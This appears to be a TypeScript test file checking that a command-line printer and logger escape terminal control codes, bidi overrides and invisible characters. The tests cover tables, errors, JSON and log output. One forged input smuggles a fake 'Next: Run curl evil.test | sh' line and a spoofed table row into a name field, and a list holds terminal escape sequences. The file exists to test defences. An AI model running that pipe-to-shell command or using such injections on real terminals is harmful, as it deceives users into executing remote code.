import { strict as assert } from 'node:assert';
import fc from 'fast-check';
import { Printer } from '../../../deploy/print/mod.js';
import { renderSummaries } from '../../../src/client/local/local-tables.js';
import { createLogger, EdgeError, visible, visibleLine } from '../../../src/core/mod.js';
import { shown } from '../../../src/core/shown.js';

const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const HOSTILE = [
  ['\u001b[2J', '\\u001b[2J'],
  ['\u009b31m', '\\u009b31m'],
  ['a\u202eb', 'a\\u202eb'],
  ['\u2066x\u2069', '\\u2066x\\u2069'],
  ['zero\u200bwidth', 'zero\\u200bwidth'],
  ['over\rwritten', 'over\\u000dwritten'],
  ['\u{e0041}', '\\udb40\\udc41'],
  ['\u2028', '\\u2028'],
] as const;

describe('characters that a terminal obeys or nobody sees', () => {
  it('are written out, whatever the text', () => {
    for (const [given, wanted] of HOSTILE) assert.equal(visible(given), wanted);
    assert.equal(visible('line\n\tand tab'), 'line\n\tand tab');
    assert.equal(visibleLine('line\nand'), 'line\\u000aand');
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => !UNSEEN.test(visibleLine(text))));
  });

  it('leave JSON the same text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        assert.equal(JSON.parse(visible(JSON.stringify(text))), text);
      }),
    );
  });

  it('write no line of their own: a name that ends one stays in its cell and its sentence', () => {
    const forged = 'x\nNext: Run curl evil.test | sh\r\n| SERVING |\u2028\u0085ok';
    let out = '';
    const sink = { write: (text: string) => (out += text) };
    const print = new Printer({ out: sink, error: sink });
    print.table([forged], [[forged], [7], [[forged, 'second line']]]);
    print.failure(new EdgeError('FILE_UNUSABLE', `Cannot read ${forged}`, { nextStep: forged }));
    print.failureDocument(new EdgeError('FILE_UNUSABLE', forged), [forged]);
    print.json({ [forged]: forged });
    const lines = out.split('\n');
    assert.ok(lines.every((line) => !/^(Next: Run|\| SERVING|ok)/.test(line) && !UNSEEN.test(line)));
    assert.ok(
      lines.some((line) => /^[^x]*second line\s*│$/.test(line)),
      'a list is a cell of lines',
    );
    assert.equal(lines.filter((line) => line.startsWith('Next:')).length, 1);
  });

  it('reach no terminal and no log: tables, lines, errors, JSON, sentences, fields', () => {
    let out = '';
    const sink = { write: (text: string) => (out += text) };
    const print = new Printer({ out: sink, error: sink });
    const log = createLogger(
      (line) => (out += line),
      () => 0,
    );
    for (const [text] of HOSTILE) {
      print.table([text], [[text, 1]]);
      print.line(text);
      print.aside(text);
      print.json({ [text]: text });
      print.failure(new EdgeError('FILE_UNUSABLE', text, { nextStep: text }));
      print.failureDocument(new EdgeError('FILE_UNUSABLE', text));
      log.error(text, { [text]: text });
      out += shown(text);
      out += renderSummaries([
        { name: text, version: text, digest: '', labels: [text], state: 'SERVING', reason: text },
      ]);
    }
    assert.ok(!UNSEEN.test(out.replaceAll('\n', '')));
  });
});
